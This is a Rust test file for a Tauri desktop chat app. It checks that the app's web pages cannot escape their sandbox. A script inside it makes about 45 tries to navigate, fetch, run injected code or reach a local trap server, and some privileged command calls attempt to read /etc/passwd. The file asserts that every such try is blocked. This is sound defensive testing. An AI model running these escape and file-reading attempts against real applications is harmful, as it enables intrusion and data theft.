//! What a page could try that is not the app's own, in the real web view: to go elsewhere, to fetch something, to run
//! what it was sent, to call what is not for it.

use std::sync::{Arc, Mutex};

use deskbell_tests::desktop::Page;
use deskbell_tests::peer::GENERAL;
use serde_json::{Value, json};
use tokio::io::AsyncReadExt as _;
use tokio::net::TcpListener;

use crate::customers::{ANA, BO};
use crate::failure::Outcome;
use crate::stage::{Services, Stage, play};

/// A server that notes who comes, and what they ask for.
struct Trap {
    url: String,
    caught: Arc<Mutex<Vec<String>>>,
}

impl Trap {
    async fn set() -> Outcome<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("http://{}/", listener.local_addr()?);
        let caught = Arc::new(Mutex::new(Vec::new()));
        let noted = Arc::clone(&caught);
        tokio::spawn(async move {
            while let Ok((mut visitor, _)) = listener.accept().await {
                let noted = Arc::clone(&noted);
                // Who comes is noted at once, and what they say when they do.
                let at = {
                    let mut noted = noted.lock().unwrap();
                    noted.push("a connection".to_owned());
                    noted.len() - 1
                };
                tokio::spawn(async move {
                    let mut said = [0; 512];
                    if let Ok(length) = visitor.read(&mut said).await {
                        let said = String::from_utf8_lossy(&said[..length]).into_owned();
                        noted.lock().unwrap()[at] = said.lines().next().unwrap_or("a connection").to_owned();
                    }
                });
            }
        });
        Ok(Self { url, caught })
    }

    fn caught(&self) -> Vec<String> {
        self.caught.lock().unwrap().clone()
    }
}

/// Everything that leads or reaches out of the page, each tried by itself. Leaves what is left behind in the page.
const WAYS_OUT: &str = r#"
    const trap = arguments[0];
    window.__mark = 'still here';
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.__violations.push(event.effectiveDirective));
    const add = (name, attributes, parent = document.body) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        parent.append(element);
        return element;
    };
    const tries = {
        open: () => window.open(trap + 'open', '_blank'),
        openSelf: () => window.open(trap + 'self', '_self'),
        blank: () => add('a', { href: trap + 'blank', target: '_blank' }).click(),
        link: () => add('a', { href: trap + 'link' }).click(),
        download: () => add('a', { href: trap + 'download', download: 'x' }).click(),
        refresh: () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${trap}refresh` }, document.head),
        form: () => add('form', { action: trap + 'form', method: 'post' }).submit(),
        get: () => add('form', { action: trap + 'get', method: 'get' }).requestSubmit(),
        iframe: () => add('iframe', { src: trap + 'iframe' }),
        srcdoc: () => add('iframe', { srcdoc: `<script>parent.__owned = 1</script><img src="${trap}srcdoc">` }),
        object: () => add('object', { data: trap + 'object' }),
        embed: () => add('embed', { src: trap + 'embed' }),
        image: () => add('img', { src: trap + 'image' }),
        video: () => add('video', { src: trap + 'video', poster: trap + 'poster' }),
        audio: () => add('audio', { src: trap + 'audio' }).load(),
        style: () => add('link', { rel: 'stylesheet', href: trap + 'style' }, document.head),
        preload: () => add('link', { rel: 'preload', as: 'image', href: trap + 'preload' }, document.head),
        prefetch: () => add('link', { rel: 'prefetch', href: trap + 'prefetch' }, document.head),
        preconnect: () => add('link', { rel: 'preconnect', href: trap }, document.head),
        icon: () => add('link', { rel: 'icon', href: trap + 'icon' }, document.head),
        manifest: () => add('link', { rel: 'manifest', href: trap + 'manifest' }, document.head),
        base: () => add('base', { href: trap }, document.head),
        script: () => add('script', { src: trap + 'script' }),
        inline: () => { add('script', {}).textContent = 'window.__owned = 1'; },
        handler: () => add('button', { onclick: 'window.__owned = 1' }).click(),
        attribute: () => add('div', { style: `background: url(${trap}attribute)` }),
        sheet: () => { add('style', {}).textContent = `body { background: url(${trap}sheet) }`; },
        property: () => { document.body.style.background = `url(${trap}property)`; },
        fetch: () => fetch(trap + 'fetch').catch(() => {}),
        request: () => { const it = new XMLHttpRequest(); it.open('GET', trap + 'request'); it.send(); },
        beacon: () => navigator.sendBeacon(trap + 'beacon', 'x'),
        events: () => new EventSource(trap + 'events'),
        socket: () => new WebSocket(trap.replace('http', 'ws') + 'socket'),
        worker: () => new Worker(trap + 'worker'),
        blobWorker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + trap + '")']))),
        module: () => import(trap + 'module').catch(() => {}),
        rtc: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + trap.slice(7, -1) }] }).createDataChannel('x'),
        eval: () => { (0, eval)('window.__owned = 1'); },
        makes: () => { new Function('window.__owned = 1')(); },
        timer: () => setTimeout('window.__owned = 1', 0),
        javascript: () => { location.href = 'javascript:window.__owned=1'; },
        data: () => { location.href = 'data:text/html,<script>document.title="owned"</script>'; },
        file: () => { location.href = 'file:///etc/passwd'; },
        assign: () => location.assign(trap + 'assign'),
        location: () => { location.href = trap + 'location'; },
    };
    for (const attempt of Object.values(tries)) {
        try { attempt(); } catch { /* which is well */ }
    }
    return Object.keys(tries).length;
"#;

/// What came of it.
const LEFT: &str = "return {
    mark: window.__mark ?? null,
    owned: '__owned' in window,
    url: location.href,
    windows: window.length,
    violations: [...new Set(window.__violations)],
}";

async fn tries_to_get_out(page: &Page, trap: &Trap) -> Outcome<Value> {
    let before = page.run("return location.href", vec![]).await?;
    let tried = page.run(WAYS_OUT, vec![trap.url.clone().into()]).await?;
    assert!(tried.as_u64() > Some(40), "{tried}");
    // The last of them have been looked at, too, once the policy spoke of these.
    let spoken = "return ['img-src', 'connect-src', 'style-src-elem', 'script-src-elem', 'frame-src', 'form-action']
        .every((directive) => window.__violations.some((it) => directive.startsWith(it) || it.startsWith(directive)))";
    page.until_run("what the policy forbids", spoken, vec![]).await?;
    let left = page.run(LEFT, vec![]).await?;
    assert_eq!((&left["mark"], &left["owned"]), (&"still here".into(), &false.into()), "{left}");
    assert_eq!(left["url"], before, "{left}");
    Ok(left)
}

/// Calls commands and says, for each, what came back: `done`, or the words with which it was rejected.
async fn call(page: &Page, calls: &Value) -> Outcome<Vec<(String, String)>> {
    let start = "window.__said = null;
        const invoke = window.__TAURI_INTERNALS__.invoke;
        Promise.all(arguments[0].map(([name, args]) => invoke(name, args).then(
            () => [name, 'done'],
            (error) => [name, typeof error === 'string' ? error : JSON.stringify(error)],
        ))).then((said) => { window.__said = said; });";
    page.run(start, vec![calls.clone()]).await?;
    let said = page.until_run("the answers", "return window.__said", vec![]).await?;
    Ok(serde_json::from_value(said)?)
}

/// A chat with Ana in a window of its own, with Bo's conversation in the history.
async fn two_customers(stage: &Stage) -> Outcome {
    stage.room("joined", GENERAL).await?;
    stage.peer.message(BO.writes("bo-1", "GLIMMERWORTS")).await?;
    stage.peer.message(ANA.writes("ana-1", "Hello")).await?;
    stage.rings(ANA.name, "Hello").await?;
    let opened = stage.command(&["chat", ANA.id], "").await?;
    assert_eq!(opened.code, Some(0), "{}", opened.said);
    Ok(())
}

#[tokio::test]
async fn nothing_leads_out_of_a_window_and_nothing_is_fetched() {
    play("ways-out", Services::ALL, async |stage| {
        let trap = Trap::set().await?;
        stage.sign_in().await?;
        let mut app = stage.start(&[]).await?;
        two_customers(stage).await?;
        let (inbox, chat) = (app.inbox().await?, app.chat(&ANA).await?);
        chat.until_text("article", "Hello").await?;
        for page in [&chat, &inbox] {
            tries_to_get_out(page, &trap).await?;
        }
        // Both still do their work, and there is no window more.
        stage.peer.message(ANA.writes("ana-2", "and goodbye")).await?;
        chat.until_text("article", "and goodbye").await?;
        inbox.until_text("[data-conversation]", "and goodbye").await?;
        assert_eq!(stage.desktop.windows().len(), 2, "{:?}", stage.desktop.windows());
        assert_eq!(trap.caught(), [] as [&str; 0], "something reached out");
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn a_chat_window_calls_nothing_that_is_not_its_own() {
    play("not-its-own", Services::ALL, async |stage| {
        stage.sign_in().await?;
        let mut app = stage.start(&["--hidden"]).await?;
        two_customers(stage).await?;
        let chat = app.chat(&ANA).await?;
        chat.until_text("article", "Hello").await?;
        let place = json!({"at": 8_640_000_000_000_000_i64, "arrival": 1});

        // What no chat window may do at all.
        let settings = json!({"settings": {}});
        let forbidden = json!([
            ["sign_out", {"wipe": true}],
            ["sign_in", {"server": "ws://127.0.0.1:1", "token": "x"}],
            ["test_connection", {"server": null, "token": null, "channel": "__CHANNEL__:1"}],
            ["watch_inbox", {"channel": "__CHANNEL__:1"}],
            ["watch_settings", {"channel": "__CHANNEL__:1"}],
            ["change_settings", settings],
            ["open_chat", {"customerId": BO.id}],
            ["open_settings", {}],
            ["pause", {"pause": "hour"}],
            ["check_again", {}],
            ["test_notification", {}],
            ["plugin:dialog|save", {"options": {}}],
            ["plugin:dialog|open", {"options": {}}],
            ["plugin:dialog|message", {"message": "x"}],
            ["plugin:fs|read_file", {"path": "/etc/passwd"}],
            ["plugin:store|load", {"path": "settings.json"}],
            ["plugin:store|get", {"rid": 0, "key": "server"}],
            ["plugin:event|emit", {"event": "x", "payload": 1}],
            ["plugin:event|listen", {"event": "x", "target": {"kind": "Any"}, "handler": 1}],
            ["plugin:window|close", {"label": "inbox"}],
            ["plugin:window|set_title", {"label": "inbox", "value": "x"}],
            ["plugin:webview|create_webview_window", {"options": {"label": "x", "url": "https://example.com"}}],
            ["plugin:webview|create_webview", {"label": "x"}],
            ["plugin:path|resolve_directory", {"directory": 1}],
            ["plugin:app|version", {}],
            ["plugin:image|from_path", {"path": "/etc/passwd"}],
            ["plugin:resources|close", {"rid": 0}],
        ]);
        for (name, said) in call(&chat, &forbidden).await? {
            let denied = said.contains("not allowed") || said.contains("not found");
            assert!(denied, "{name}: {said}");
        }

        // What it may do for its own customer, and for nobody else.
        let of = |customer: &str| {
            json!([
                ["earlier_messages", {"customerId": customer, "before": place}],
                ["later_messages", {"customerId": customer, "after": {"at": 0, "arrival": 0}}],
                ["mark_read", {"customerId": customer, "upTo": 1}],
                ["mark_unread", {"customerId": customer}],
                ["mute", {"customerId": customer, "mute": "off"}],
                ["pin", {"customerId": customer, "pinned": false}],
                ["set_vip", {"customerId": customer, "vip": false}],
                ["search", {"text": "GLIMMERWORTS", "customerId": customer, "before": null}],
            ])
        };
        for (name, said) in call(&chat, &of(ANA.id)).await? {
            assert_eq!(said, "done", "{name}");
        }
        let mut others = of(BO.id);
        others.as_array_mut().unwrap().extend([
            json!(["set_focus", {"customerId": BO.id}]),
            json!(["watch_chat", {"customerId": BO.id, "channel": "__CHANNEL__:1"}]),
            json!(["export_chat", {"customerId": BO.id, "format": "txt", "channel": "__CHANNEL__:1"}]),
            json!(["open_in_crm", {"customerId": BO.id}]),
            json!(["search", {"text": "GLIMMERWORTS", "customerId": null, "before": null}]),
        ]);
        for (name, said) in call(&chat, &others).await? {
            assert!(said.contains("not-yours") && !said.contains("GLIMMERWORTS"), "{name}: {said}");
        }
        // Nobody was signed out, and Bo's message is still unread.
        let status = stage.command(&["status", "--json"], "").await?;
        let status: Value = serde_json::from_str(&status.said)?;
        assert_eq!(status["state"], "online", "{status}");
        assert!(status["unread"].as_u64() >= Some(1), "{status}");
        Ok(())
    })
    .await;
}
